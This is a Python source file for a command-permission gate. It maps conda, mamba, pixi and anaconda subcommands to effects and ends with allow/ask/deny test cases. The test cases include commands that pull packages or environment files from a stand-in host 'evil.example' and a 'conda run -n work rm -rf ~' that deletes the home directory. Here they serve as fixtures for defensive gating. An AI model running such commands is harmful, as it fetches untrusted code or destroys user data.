"""conda and mamba — manage environments and packages of any language."""

from toolgate.knowledge.vocabulary import *

CHANNELS = [
    """
        -n= --name= -y --yes -q --quiet -v --verbose --json --offline --override-channels --strict-channel-priority
        --no-channel-priority --no-deps --only-deps --no-pin --copy --download-only --solver= --experimental= -k
        --insecure --use-local --no-default-packages --freeze-installed --no-update-deps -S --satisfied-skip-solve
        --update-deps --update-all --all --update-specs --force-reinstall -C --dev --clobber --platform= --subdir=
        --no-env --clone= --prune -m --mkdir --no-shortcuts --shortcuts-only= --repodata-fn= --no-rc
    """,
    option("-p --prefix", WRITES),
    option("-c --channel", "READ_BY(packages.channel)"),
    option("--file -f", "PACKAGES(file)"),
    flag("-d --dry-run", dry=True, clears="run"),
    "-h?",
]

CONDA = command(
    "conda mamba micromamba",
    options=["-h? -V? -v --verbose --no-plugins -y --yes -q", option("-r --root-prefix", WRITES), option("--rc-file", READS)],
    subcommands=[
        sub("install update upgrade", "PACKAGES...", CHANNELS),
        sub("create", "PACKAGES...", CHANNELS),
        sub("remove uninstall", "READ_BY(packages.removed)...", [*CHANNELS, flag("--all", deletes("the whole environment", "home"))], does=deletes("packages in the environment", "output")),
        loose("info", prints="tools"),
        loose("list search compare doctor package help notices activate deactivate", [option("-c --channel", "READ_BY(packages.channel)")]),
        loose("shell.* shell hook shell-hook", stdout="SETUP"),
        sub("run", "LOCAL", ["-n= --name= -v --verbose --live-stream --no-capture-output --dev --debug-wrapper-scripts -a= --attach=", option("-p --prefix", READS), option("--cwd", CHDIR)]),
        sub("env", subcommands=[
            loose("list export", [option("-f --file", WRITES)]),
            sub("create update", "PACKAGES...", CHANNELS, bare=runs("the project's environment", "workspace", (Manner.INSTALL, Manner.LOCKED))),
            sub("remove", "PLAIN...", CHANNELS, does=deletes("the whole environment", "home")),
            loose("config", does=writes("settings of the environment", "home")),
        ]),
        loose("export", [option("-f --file", WRITES)]),
        loose("rename", does=writes("an environment", "home")),
        lax("clean", does=deletes("conda's cache", "cache")),
        loose("config", [flag("--show --show-sources --get --describe --validate", clears="write"), flag("--env --system --json"), "--add= --append= --prepend= --set= --remove= --remove-key="], does=writes("conda's settings", "home")),
        sub("init", "PLAIN...", [flag("--dry-run -d", dry=True), "--all --user --system --reverse -v"], does=writes("the user's shell profile", "startup")),
        lax("build", "READS...", ["--no-test --output", option("-c --channel", "READ_BY(packages.channel)")], does=runs("the project's build")),
        loose("upload publish", does=publishes("the package", "registry")),
    ],
)  # fmt: skip
PIXI = command(
    "pixi",
    options=["-h? -V? -v --verbose -q --quiet --color= --no-progress", option("--manifest-path", READS)],
    subcommands=[
        sub(
            "run shell-hook",
            "LOCAL?",
            [
                "-e= --environment= --frozen --locked --no-lockfile-update --clean-env --skip-deps -x --executable",
                option("--manifest-path", READS),
            ],
        ),
        loose("install lock update", does=runs(LOCKED_PACKAGES, "workspace", (Manner.INSTALL, Manner.LOCKED))),
        sub(
            "add",
            "PACKAGES...",
            ["--pypi -f= --feature= -p= --platform= --build --host --git= --no-install --editable"],
        ),
        loose("remove list tree info init task search clean help project workspace upgrade"),
        sub(
            "exec",
            "TOOL",
            ["-s= --spec= --with= --force-reinstall", option("-c --channel", "READ_BY(packages.channel)")],
        ),
        loose("global", does=runs("programs", "machine", (Manner.INSTALL, Manner.GLOBAL))),
        loose("shell", does=runs("an interactive shell", "workspace", Manner.INTERACTIVE)),
        loose("upload auth", does=publishes("the package", "registry")),
    ],
)
CONDA_TOOLS = loose(
    "conda-lock conda-build constructor anaconda-navigator",
    [option("-f --file", READS), option("--lockfile", WRITES), option("-c --channel", "READ_BY(packages.channel)")],
    does=fetches("conda channels", "registry"),
)
ANACONDA = command(
    "anaconda",
    subcommands=[
        loose("search show whoami list", does=fetches(Name("anaconda.org"), "known")),
        loose("upload login logout auth", [option("--site", FETCHES)], does=publishes("the package", "registry")),
    ],
)

CASES = """
allow  conda env list
allow  conda list -n base
allow  conda info --json
allow  conda env create -f environment.yml
allow  conda env update -f environment.yml --prune
allow  conda activate work
allow  conda run -n work pytest -q
allow  mamba install --file requirements.txt
allow  conda clean --all -y
allow  conda install -y numpy
allow  conda create -n x python=3.12
llm    conda install -c conda-forge numpy
ask    conda install -c https://evil.example/channel numpy
ask    conda env create -f https://evil.example/environment.yml
ask    conda env remove -n work
ask    conda config --add channels https://evil.example/channel
allow  conda config --show
ask    conda init bash
deny   conda run -n work rm -rf ~
allow  pixi run test
allow  . "$(conda info --base)/etc/profile.d/conda.sh" && conda activate work
"""
